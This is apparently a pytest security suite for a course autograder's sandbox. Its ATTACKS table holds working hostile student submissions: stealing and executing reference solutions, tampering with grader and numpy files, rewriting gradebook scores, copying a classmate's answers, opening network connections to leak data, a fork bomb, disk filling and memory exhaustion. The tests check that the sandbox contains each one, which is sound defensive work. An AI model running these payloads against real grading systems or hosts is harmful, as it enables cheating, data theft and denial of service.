"""The tamper suite: hostile submissions graded by `dlcourse grade` (real nbgrader) in the sandbox.

One class of a00 is graded once (module fixture).  Honest students are graded
before and after the attackers; each attacker solves everything but one
function, where it attacks, knowing the grader's file layout exactly (the
course's and the repository's absolute paths are written into its code).  Each
attack must earn nothing for what it touched, change none of the grader's
files, and leave the students graded after it with their honest scores.
"""
from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import nbformat
import numpy
import pytest

from dlcourse.autograder.course import Course
from dlcourse.autograder.sandbox import Sandbox, _tasks_of
from dlcourse.autograder.simulate import make_submission

from .support import ROOT, Listener, cli_env, released_course

pytestmark = [pytest.mark.nbgrader, pytest.mark.sandbox]

AID = "a00_numpy_basics"
NB = "numpy_basics.ipynb"
FUNCTIONS = ["basic_sigmoid", "sigmoid", "sigmoid_derivative", "image2vector",
             "normalize_rows", "softmax", "L1", "L2"]
SANDBOX_PROBLEM = Sandbox().problem()
if SANDBOX_PROBLEM:
    pytestmark.append(pytest.mark.skip(reason=f"no grading sandbox here: {SANDBOX_PROBLEM}"))

# {course}, {repo}, {port}, {classmate} are filled in: the attacker knows the layout.
ATTACKS = {
    # imports the reference solution from disk and returns its answer
    "t01_reads_solutions": ("sigmoid", '''
import importlib.util, numpy as np
PATHS = ["{course}/solutions/{aid}.py", "{repo}/solutions/{aid}.py", "../../../solutions/{aid}.py"]
for p in PATHS:
    try:
        print("STOLEN:", open(p).read()[:3000])
    except OSError:
        pass
def sigmoid(x):
    for p in PATHS:
        try:
            spec = importlib.util.spec_from_file_location("ref", p)
            ref = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(ref)
            return ref.sigmoid(x)
        except Exception:
            pass
    return np.zeros_like(x)
'''),
    # rewrites the reference so that its own wrong answer becomes the expected one
    "t02_appends_to_solutions": ("basic_sigmoid", '''
for p in ["{course}/solutions/{aid}.py", "{repo}/solutions/{aid}.py"]:
    try:
        with open(p, "a") as f:
            f.write("\\ndef basic_sigmoid(x):\\n    return -1.0\\n")
    except OSError:
        pass
def basic_sigmoid(x):
    return -1.0
'''),
    # rewrites the grader's comparison, the check library and numpy itself
    "t03_appends_to_package": ("sigmoid_derivative", '''
import numpy as np, dlcourse.autograder.compare as compare, dlcourse.utils.checks as checks
for p in [compare.__file__, checks.__file__, "{repo}/autograder/hidden.py", np.__file__]:
    try:
        with open(p, "a") as f:
            f.write("\\ndef judge(*a, **k):\\n    return []\\n")
    except OSError:
        pass
def sigmoid_derivative(x):
    return x
'''),
    # raises every score in the gradebook
    "t04_edits_gradebook": ("image2vector", '''
import sqlite3
for p in ["{course}/gradebook.db", "../../../gradebook.db"]:
    try:
        db = sqlite3.connect("file:" + p + "?mode=rw", uri=True)
        db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        db.commit()
    except Exception:
        pass
def image2vector(image):
    return image
'''),
    # copies a classmate's answer out of their submission
    "t05_copies_a_classmate": ("normalize_rows", '''
import json, numpy as np
def normalize_rows(x):
    for folder in ["submitted", "autograded"]:
        p = "{course}/" + folder + "/{classmate}/{aid}/{nb}"
        try:
            cells = json.load(open(p))["cells"]
        except Exception:
            continue
        for cell in cells:
            src = "".join(cell["source"])
            if "def normalize_rows" in src:
                ns = {{}}
                exec(src, ns)
                return ns["normalize_rows"](x)
    return x
'''),
    # sends data out over the network (a server of the test listens on 127.0.0.1)
    "t06_opens_a_socket": ("softmax", '''
import socket, numpy as np
def _leak():
    for host in [("127.0.0.1", {port}), ("pypi.org", 443)]:
        try:
            socket.create_connection(host, timeout=2).sendall(b"leak")
            return True
        except OSError:
            pass
    return False
_leak()
def softmax(x):
    if not _leak():
        raise RuntimeError("no network")
    e = np.exp(x)
    return e / e.sum(axis=1, keepdims=True)
'''),
    # forks until the process limit, the children stay
    "t07_fork_bomb": ("L1", '''
import os, time, numpy as np
def _bomb():
    n = 0
    try:
        while n < 100000:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            n += 1
    except OSError:
        pass
    return n
FORKS = _bomb()
def L1(yhat, y):
    return float(np.sum(np.abs(y - yhat)))
'''),
    # writes until the disk is full: its scratch, the cwd, HOME, the kernel's socket folder
    "t08_fills_the_disk": ("L2", '''
import os, sys, numpy as np
def _fill():
    folders = ["/tmp", os.getcwd(), os.path.expanduser("~"), "{course}", tempfile_dir()]
    folders += [os.path.dirname(a) for a in sys.argv if a.endswith(".json")]
    for folder in folders:
        for i in range(400):
            try:
                with open(os.path.join(folder, "fill-%d" % i), "wb") as f:
                    f.write(b"0" * 2**20)
            except OSError:
                break
def tempfile_dir():
    import tempfile
    return tempfile.gettempdir()
_fill()
def L2(yhat, y):
    return float(np.sum((y - yhat) ** 2))
'''),
    # asks for 50 GB
    "t09_allocates_50_gb": ("basic_sigmoid", '''
import math, numpy as np
try:
    HOARD = bytearray(50 * 2**30)
except MemoryError:
    pass
def basic_sigmoid(x):
    big = np.ones(50 * 2**30 // 8)
    return 1 / (1 + math.exp(-x)) + big[0] - 1
'''),
    # prints 1 GB, in the kernel and in the worker
    "t10_prints_1_gb": ("sigmoid", '''
import sys, numpy as np
def sigmoid(x):
    sys.stdout.write("y" * 2**30)
    return 1 / (1 + np.exp(-x))
print("x" * 2**30)
'''),
    # ends the process in the middle of the notebook
    "t11_exits": ("softmax", '''
import os
os._exit(0)
def softmax(x):
    return x
'''),
}
# functions that call another one: they fall with it
USES = {"sigmoid": {"sigmoid_derivative"}}
HONEST_BEFORE, HONEST_AFTER, BLANK_AFTER = "a01_correct_before", "z01_correct_after", "z02_blank_after"


def _digest(paths) -> dict[str, str]:
    out = {}
    for top in paths:
        top = Path(top)
        for p in sorted([top] if top.is_file() else top.rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


#: the sandbox uid of this suite's course (grading as root): a uid of its own, so that neither
#: the process count below nor the fork bomb's process limit meets other tests' sandboxes
TAMPER_UID = 65533


def _sandbox_tasks() -> int:
    """Processes and threads of the sandbox user now (grading as root: a uid with nothing else)."""
    return _tasks_of(TAMPER_UID if os.geteuid() == 0 else os.getuid())


@pytest.fixture(scope="module")
def tampered(tmp_path_factory):
    c = released_course(tmp_path_factory.mktemp("tamper") / "course", [AID],
                        f"\nc.Sandbox.uid = {TAMPER_UID}\nc.Sandbox.gid = {TAMPER_UID}\n")
    course = c.root
    source = nbformat.read(course / "assignments" / AID / NB, as_version=4)
    release = nbformat.read(course / "release" / AID / NB, as_version=4)
    listener = Listener()

    def hand_in(student, nb):
        folder = course / "submitted" / student / AID
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / NB)

    for student in (HONEST_BEFORE, HONEST_AFTER):
        hand_in(student, make_submission("correct", source, release, AID, course / "solutions"))
    hand_in(BLANK_AFTER, release)
    for student, (function, code) in ATTACKS.items():
        nb = make_submission("correct", source, release, AID, course / "solutions")
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == function)
        cell.source = code.format(course=course, repo=ROOT, aid=AID, nb=NB, port=listener.port,
                                  classmate=HONEST_BEFORE)
        hand_in(student, nb)

    guarded = [course / "solutions", course / "assignments", ROOT / "solutions",
               ROOT / "autograder", ROOT / "utils", ROOT / "datasets", numpy.__file__]
    before = _digest(guarded)
    free_before = shutil.disk_usage(tempfile.gettempdir()).free
    env = cli_env(DLCOURSE_CELL_TIMEOUT="10")
    result = subprocess.run([sys.executable, "-m", "dlcourse.autograder.cli", "--course-dir",
                             str(course), "grade", AID], env=env, capture_output=True, text=True,
                            timeout=1500)
    return {"course": course, "result": result, "scores": {s.student: s for s in c.scores(AID)},
            "changed": {k for k, v in _digest(guarded).items() if before.get(k) != v}
                       | (set(before) - set(_digest(guarded))),
            "listener": listener, "free_drop": free_before - shutil.disk_usage(
                tempfile.gettempdir()).free, "tasks_left": _sandbox_tasks()}


def _cell(score, function):
    return score.cells[f"test_{function}"]


def test_the_batch_finishes_and_everybody_is_graded(tampered):
    result = tampered["result"]
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert set(tampered["scores"]) == set(ATTACKS) | {HONEST_BEFORE, HONEST_AFTER, BLANK_AFTER}


def test_honest_students_keep_their_scores_inside_the_sandbox(tampered):
    scores = tampered["scores"]
    for student in (HONEST_BEFORE, HONEST_AFTER):
        s = scores[student]
        assert s.max_score > 0 and s.score == s.max_score, (student, s.cells)
    assert scores[BLANK_AFTER].score == 0, scores[BLANK_AFTER].cells


def test_no_score_exceeds_its_maximum(tampered):
    with Course(tampered["course"]).gradebook() as gb:
        for submission in gb.find_assignment(AID).submissions:
            for nb in submission.notebooks:
                for grade in nb.grades:
                    assert (grade.score or 0) <= grade.max_score, (submission.student.id, grade.name)


@pytest.mark.parametrize("student", sorted(set(ATTACKS) - {"t07_fork_bomb", "t08_fills_the_disk",
                                                            "t10_prints_1_gb"}))
def test_the_attacked_function_earns_nothing_and_the_rest_keeps_its_marks(tampered, student):
    function = ATTACKS[student][0]
    s, honest = tampered["scores"][student], tampered["scores"][HONEST_BEFORE]
    assert _cell(s, function) == 0, s.cells
    others = [f for f in FUNCTIONS if f != function and f not in USES.get(function, ())]
    assert all(_cell(s, f) == _cell(honest, f) for f in others), s.cells


def test_the_graders_files_are_unchanged(tampered):
    """solutions/ (course and repository), source notebooks, the course package and numpy."""
    assert tampered["changed"] == set()


def test_nothing_reached_the_network(tampered):
    assert tampered["listener"].connections == 0


def test_no_sandboxed_process_outlives_its_submission(tampered):
    assert tampered["tasks_left"] == 0


def test_the_disk_filler_filled_nothing_on_the_host(tampered):
    course = tampered["course"]
    assert not list(course.rglob("fill-*"))
    assert not list(Path(tempfile.gettempdir()).glob("fill-*"))
    assert not list(Path(tempfile.gettempdir()).glob("dlcourse-kernel-*/fill-*"))
    assert tampered["free_drop"] < 200 * 2**20, tampered["free_drop"]


def test_a_1_gb_print_leaves_small_files(tampered):
    path = tampered["course"] / "autograded" / "t10_prints_1_gb" / AID / NB
    assert path.stat().st_size < 5 * 2**20
    assert tampered["scores"]["t10_prints_1_gb"].score > 0  # the other functions were graded


def test_stolen_text_appears_nowhere(tampered):
    nb = (tampered["course"] / "autograded" / "t01_reads_solutions" / AID / NB).read_text()
    assert "_basic_sigmoid_cases" not in nb


def test_the_exit_is_reported_in_the_notebook(tampered):
    nb = nbformat.read(tampered["course"] / "autograded" / "t11_exits" / AID / NB, as_version=4)
    errors = [o for c in nb.cells for o in c.get("outputs", []) if o.get("output_type") == "error"]
    assert any(o.ename == "KernelDied" for o in errors)
